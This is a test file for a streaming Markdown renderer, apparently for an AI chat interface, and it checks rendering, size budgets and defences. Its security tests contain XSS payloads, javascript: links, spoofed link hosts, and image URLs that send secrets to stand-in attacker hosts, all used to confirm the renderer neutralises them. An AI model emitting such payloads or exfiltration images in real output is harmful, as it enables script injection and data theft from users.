import { cleanup, fireEvent, render, waitFor } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './markdown.js';
import { INLINE_BUDGET, TABLE_BUDGET } from './markdown-node.js';
import { AllowedImageOriginsContext, createHostConsent, HostConsentContext } from '../media/media-policy.js';

afterEach(cleanup);

/** Elements a table part may not hold: anything but rows in a thead or tbody, anything but cells in a row. */
function tableNestingErrors(container: HTMLElement): string[] {
  const errors: string[] = [];
  for (const section of container.querySelectorAll('thead, tbody')) {
    for (const child of section.childNodes) if (child.nodeName !== 'TR') errors.push(`${section.nodeName} > ${child.nodeName}`);
  }
  for (const row of container.querySelectorAll('tr')) {
    for (const child of row.childNodes) if (child.nodeName !== 'TD' && child.nodeName !== 'TH') errors.push(`TR > ${child.nodeName}`);
  }
  return errors;
}

describe('Markdown', () => {
  it('renders common markdown as elements', () => {
    const { container } = render(
      <Markdown text={'# Title\n\n### Sub\n\nSome **bold**, *italic*, `code` and [a link](https://example.com).\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'} />,
    );
    // Levels are ranked from h3 without gaps: `#` → h3, `###` → h4.
    expect([...container.querySelectorAll('h3, h4')].map((heading) => `${heading.tagName}:${heading.textContent}`)).toEqual(['H3:Title', 'H4:Sub']);
    expect(container.querySelector('strong')!.textContent).toBe('bold');
    expect(container.querySelector('em')!.textContent).toBe('italic');
    expect(container.querySelector('a')!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(container.querySelector('a')!.getAttribute('target')).toBe('_blank');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('.acu-code code')!.textContent).toBe('let a = 1;');
    expect(container.querySelector('.acu-code')!.getAttribute('data-language')).toBe('js');
    expect([...container.querySelectorAll('th')].map((cell) => cell.textContent!.trim())).toEqual(['a', 'b']);
    expect([...container.querySelectorAll('td')].map((cell) => cell.textContent!.trim())).toEqual(['1', '2']);
  });

  it('with `caret`, only the last top-level block carries the caret class; it moves as blocks arrive and goes with `caret`', () => {
    const tails = (container: HTMLElement) => [...container.querySelectorAll('.acu-markdown__tail')].map((element) => element.tagName + (element.className.includes('acu-code') ? '.acu-code' : ''));
    const { container, rerender } = render(<Markdown text={'# Title\n\nFirst'} caret />);
    expect(tails(container)).toEqual(['P']);
    rerender(<Markdown text={'# Title\n\nFirst\n\n- one\n- two'} caret />);
    expect(tails(container)).toEqual(['UL']); // the list, not its last item: one block-level tail
    rerender(<Markdown text={'# Title\n\nFirst\n\n- one\n- two\n\n```ts\nlet a = 1;'} caret />);
    expect(tails(container)).toEqual(['DIV.acu-code']);
    rerender(<Markdown text={'# Title\n\nFirst\n\n- one\n- two\n\n```ts\nlet a = 1;\n```\n\n| a |\n|---|\n| 1 |'} caret />);
    expect(tails(container)).toEqual(['DIV']);
    expect(container.querySelector('.acu-markdown__tail')!.className).toContain('acu-markdown__table');
    // 40 blocks: the caret follows the last one across the groups the blocks render in.
    const long = Array.from({ length: 40 }, (_, index) => `Paragraph ${index}`).join('\n\n');
    rerender(<Markdown text={long} caret />);
    expect(container.querySelectorAll('.acu-markdown__tail')).toHaveLength(1);
    expect(container.querySelector('.acu-markdown__tail')!.textContent).toBe('Paragraph 39');
    rerender(<Markdown text={long} complete />);
    expect(container.querySelectorAll('.acu-markdown__tail')).toHaveLength(0);
    // Without it (the default), no block is the tail.
    cleanup();
    expect(render(<Markdown text="Just text" />).container.querySelectorAll('.acu-markdown__tail')).toHaveLength(0);
  });

  it('puts its blocks in runs of 32; a full run before the last is sealed (skipped off screen), the last never is, and blocks keep their elements as runs fill', () => {
    const paragraphs = (count: number) => Array.from({ length: count }, (_, index) => `Paragraph ${index + 1}.`).join('\n\n');
    const runs = (container: HTMLElement) =>
      [...container.querySelectorAll('.acu-markdown > .acu-markdown__run')].map((run) => `${run.children.length}${run.hasAttribute('data-sealed') ? ' sealed' : ''}`);
    // 64 blocks streaming: the second run is full but last (its last block may still be open), so not sealed.
    const { container, rerender } = render(<Markdown text={paragraphs(64)} caret />);
    expect(runs(container)).toEqual(['32 sealed', '32']);
    const first = container.querySelector('p');
    const sixtyFourth = container.querySelectorAll('p')[63];
    rerender(<Markdown text={`${paragraphs(70)}\n\nand more`} caret />);
    expect(runs(container)).toEqual(['32 sealed', '32 sealed', '7']);
    // The run filling up and being sealed did not re-create a block: no highlighted code re-highlights, no image reloads.
    expect(container.querySelector('p')).toBe(first);
    expect(container.querySelectorAll('p')[63]).toBe(sixtyFourth);
    // Only the last block, in the last run, carries the caret.
    expect(container.querySelectorAll('.acu-markdown__tail')).toHaveLength(1);
    expect(container.querySelector('.acu-markdown__run:last-child > :last-child')!.classList.contains('acu-markdown__tail')).toBe(true);
    // A short answer is one run, never sealed.
    rerender(<Markdown text="Just one line." complete />);
    expect(runs(container)).toEqual(['1']);
  });

  it('marks a task list item by class (its box stands for the bullet), not by a :has() selector', () => {
    const { container } = render(<Markdown text={'- [x] done\n- [ ] to do\n- plain'} complete />);
    expect([...container.querySelectorAll('li')].map((item) => item.classList.contains('acu-markdown__task'))).toEqual([true, true, false]);
  });

  it('renders raw HTML as text and drops unsafe URLs', () => {
    const { container } = render(
      <Markdown
        text={
          '<script>window.pwnedByMarkdown = 1</script> <img src=x onerror="window.pwnedByMarkdown = 1"> <iframe src="https://evil.example"></iframe>\n\n' +
          '[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [z](data:text/html,hi) ![i](javascript:alert(1)) <a href="javascript:alert(1)">a</a>'
        }
      />,
    );
    expect(container.querySelectorAll('script, img, iframe, [onerror], [href], [src]')).toHaveLength(0);
    expect(container.textContent).toContain('<script>window.pwnedByMarkdown = 1</script>');
    expect(container.textContent).toContain('<iframe src="https://evil.example"></iframe>');
    expect((window as { pwnedByMarkdown?: number }).pwnedByMarkdown).toBeUndefined();
  });

  it('renders a half-streamed message sensibly (unclosed emphasis and code fence)', () => {
    const { container } = render(<Markdown text={'Here is **bold and\n\n```ts\nconst x ='} />);
    expect(container.querySelector('strong')!.textContent).toBe('bold and');
    expect(container.querySelector('.acu-code code')!.textContent).toContain('const x =');
  });

  it('shows where a link goes: its host after its text (punycode for look-alike names); a bare URL shows itself', () => {
    const { container } = render(<Markdown text={'[your bank](https://bаnk.example/login) and https://plain.example/x done'} />);
    const [named, bare] = [...container.querySelectorAll('a')];
    expect(named!.textContent).toMatch(/^your bank \(xn--[a-z0-9-]+\.example\)$/);
    expect(named!.querySelector('.acu-markdown__host')).not.toBeNull();
    expect(bare!.textContent).toBe('https://plain.example/x');
    expect(bare!.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('shows the host a link really opens: `//`, `\\\\` and `/\\` forms name a host, resolved as the browser does', () => {
    const { container } = render(<Markdown text={'[a](//evil.example/landing) [b](\\\\evil.example/x) [c](/\\evil.example/y) [d](/docs/page)'} />);
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://evil.example/landing', 'https://evil.example/x', 'https://evil.example/y', '/docs/page']);
    expect(links.map((link) => link.querySelector('.acu-markdown__host')?.textContent ?? null)).toEqual(['(evil.example)', '(evil.example)', '(evil.example)', null]);
  });

  it('marks a link whose text reads as a URL of another host, and keeps bidi controls from reordering the host label', () => {
    const { container } = render(<Markdown text={'[https://bank.example/login](//evil.example/landing) [bank.example](https://bank.example/x) [\u202emoc.knab](https://evil.example/)'} />);
    const [spoof, honest, reversed] = [...container.querySelectorAll('a')];
    expect(spoof!.dataset.kind).toBe('mismatch');
    expect(spoof!.textContent).toBe('https://bank.example/login (⚠ evil.example)');
    expect(honest!.dataset.kind).toBeUndefined();
    expect(honest!.textContent).toBe('bank.example (bank.example)');
    // The override is gone from the text, and the label is isolated from it in a <bdi>.
    expect(reversed!.textContent).toBe('moc.knab (⚠ evil.example)');
    expect(reversed!.querySelector('.acu-markdown__host')!.tagName).toBe('BDI');
  });

  it('loads an image from another origin only after a click, unless its origin is allowed; data: and same-origin load', () => {
    const text = '![secret](https://attacker.example/collect?secret=1) ![ok](https://cdn.example.com/a.png) ![inline](data:image/png;base64,AAAA) ![local](/logo.png)';
    const blocked = render(<Markdown text={text} />);
    const sources = () => [...blocked.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(sources()).toEqual(['data:image/png;base64,AAAA', '/logo.png']);
    const buttons = [...blocked.container.querySelectorAll('button')].filter((button) => button.textContent!.startsWith('Load image'));
    expect(buttons.map((button) => button.textContent)).toEqual(['Load image from attacker.example', 'Load image from cdn.example.com']);
    expect(blocked.container.textContent).toContain('secret');
    fireEvent.click(buttons[1]!);
    expect(sources()).toContain('https://cdn.example.com/a.png');
    expect(sources()).not.toContain('https://attacker.example/collect?secret=1');
    cleanup();

    const allowed = render(
      <AllowedImageOriginsContext.Provider value={['https://cdn.example.com']}>
        <Markdown text={text} />
      </AllowedImageOriginsContext.Provider>,
    );
    const allowedSources = [...allowed.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(allowedSources).toContain('https://cdn.example.com/a.png');
    expect(allowedSources).not.toContain('https://attacker.example/collect?secret=1');
    expect(allowed.container.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('a click loads one exact image URL: the same place re-rendered with another URL (a final message) asks again', () => {
    const view = render(<Markdown text="![chart](https://cdn.example/chart.png)" />);
    fireEvent.click(view.getByRole('button', { name: 'Load image from cdn.example' }));
    expect(view.container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
    view.rerender(<Markdown text="![chart](https://evil.example/leak.png?d=secret)" complete />);
    expect(view.container.querySelector('img')).toBeNull();
    expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
  });

  it('"always load from host in this conversation" loads every image of that origin, now and later; other origins still ask', () => {
    const text = '![a](https://cdn.example/a.png) ![b](https://cdn.example:443/b.png?x=1) ![c](https://evil.example/c.png) ![d](http://cdn.example/d.png)';
    // Without a conversation's consent (a bare Markdown), only the one-URL button is offered.
    const bare = render(<Markdown text={text} />);
    expect(bare.queryAllByRole('button', { name: /^Always load/ })).toHaveLength(0);
    cleanup();
    const consent = createHostConsent();
    const view = render(
      <HostConsentContext.Provider value={consent}>
        <Markdown text={text} />
      </HostConsentContext.Provider>,
    );
    fireEvent.click(view.getAllByRole('button', { name: 'Always load from cdn.example in this conversation' })[0]!);
    // The origin (scheme, host, port): https://cdn.example's two images load; http://cdn.example and evil.example ask.
    expect([...view.container.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual(['https://cdn.example/a.png', 'https://cdn.example:443/b.png?x=1']);
    expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
    expect(consent.has('https://cdn.example')).toBe(true);
    expect(consent.has('http://cdn.example')).toBe(false);
    // A later image of that origin (a final message replacing the text) loads with no prompt.
    view.rerender(
      <HostConsentContext.Provider value={consent}>
        <Markdown text="![e](https://cdn.example/e.png)" complete />
      </HostConsentContext.Provider>,
    );
    expect(view.container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/e.png');
  });

  it('a table past its budget (3,000 columns) shows as text with a note; one within it renders as a table', () => {
    const row = (cells: number) => `| ${Array.from({ length: cells }, (_, index) => `c${index}`).join(' | ')} |`;
    const table = (cells: number) => [row(cells), `| ${Array.from({ length: cells }, () => '---').join(' | ')} |`, row(cells)].join('\n');
    const wide = render(<Markdown text={table(3000)} complete />);
    expect(wide.container.querySelector('table')).toBeNull();
    const source = wide.container.querySelector('.acu-markdown__table-source')!;
    expect(source.querySelector('code')!.textContent).toContain('| c0 | c1 | c2 |');
    expect(source.textContent).toContain('Too large to draw: shown as source.');
    cleanup();
    const fine = render(<Markdown text={table(TABLE_BUDGET.maxColumns)} complete />);
    expect(fine.container.querySelectorAll('th')).toHaveLength(TABLE_BUDGET.maxColumns);
  });

  it('a block renders its first inline children as elements, the rest (25,000 formulas) as their source text', async () => {
    const { container } = render(<Markdown text={'$a'.repeat(50_000)} complete />);
    // 100 kB: parsed over a few commits (32 kB each).
    await waitFor(() => expect(container.querySelector('p')!.textContent!.length).toBeGreaterThan(75_000));
    const paragraph = container.querySelector('p')!;
    expect(paragraph.querySelectorAll('.acu-math')).toHaveLength(INLINE_BUDGET / 2);
    const tail = paragraph.querySelector('.acu-markdown__inline-tail')!;
    expect(tail.textContent!.startsWith('$a$a$a')).toBe(true);
    expect(paragraph.textContent!.length).toBeGreaterThan(75_000);
  });

  it('renders 3,000 nested blockquotes and 1,000 nested lists without overflowing the stack: the deep text shows as text', async () => {
    const quotes = render(<Markdown text={'>'.repeat(3000) + ' deep text'} />);
    expect(quotes.container.textContent).toContain('deep text');
    expect(quotes.container.querySelectorAll('blockquote').length).toBeLessThan(20);
    // 1,000 levels (1 MB of indentation, parsed over commits of 32 kB; 3,000 would be 9 MB): far past the depth limit.
    const list = Array.from({ length: 1000 }, (_, level) => `${'  '.repeat(level)}- item ${level}`).join('\n');
    const lists = render(<Markdown text={list} />);
    await waitFor(() => expect(lists.container.textContent).toContain('item 999'), { timeout: 10_000 });
  });

  it('a line after a table that does not start with a pipe is a row of one cell: a table holds rows and a row cells, nothing else', () => {
    const { container } = render(<Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n**bold** | b |\n[a link](https://example.com/x) after\n\nNext'} />);
    expect(tableNestingErrors(container)).toEqual([]);
    const rows = [...container.querySelectorAll('tbody tr')].map((row) => [...row.children].map((cell) => cell.textContent!.trim()));
    expect(rows[0]).toEqual(['1', '2']);
    expect(rows.slice(1).flat().join(' ')).toContain('bold');
    expect(container.querySelector('tbody strong')!.textContent).toBe('bold');
    expect(container.querySelector('tbody a')!.getAttribute('href')).toBe('https://example.com/x');
    expect(container.querySelector('p')!.textContent).toBe('Next');
    // The shape a random test found: a table in a quote, then a link and a fence on the next line.
    cleanup();
    const quoted = render(<Markdown text={'> | a | b |\n|---|---|\n> [a](https://example.com/x)1. ```ts\n# '} />).container;
    expect(tableNestingErrors(quoted)).toEqual([]);
    expect(quoted.querySelector('tbody td a')).not.toBeNull();
  });

  it('streamed in random pieces, renders the same DOM as the whole text rendered at once', () => {
    const snippets = ['# ', '> ', '- ', '1. ', '```ts\n', '```\n', '`', '**', '*', '_', '~~', '[a](https://example.com/x)', '![i](/i.png)', '| a | b |\n|---|---|\n', 'word ', '\n', '\n\n'];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...snippets), { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 8 }), (parts, cuts) => {
        const text = parts.join('');
        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
        const streamed = render(<Markdown text="" />);
        for (const point of [...points, text.length]) streamed.rerender(<Markdown text={text.slice(0, point)} />);
        const whole = render(<Markdown text={text} />);
        expect(streamed.container.innerHTML).toBe(whole.container.innerHTML);
        expect(tableNestingErrors(whole.container)).toEqual([]);
        cleanup();
      }),
      { seed: 1813, numRuns: 60 },
    );
  });
});
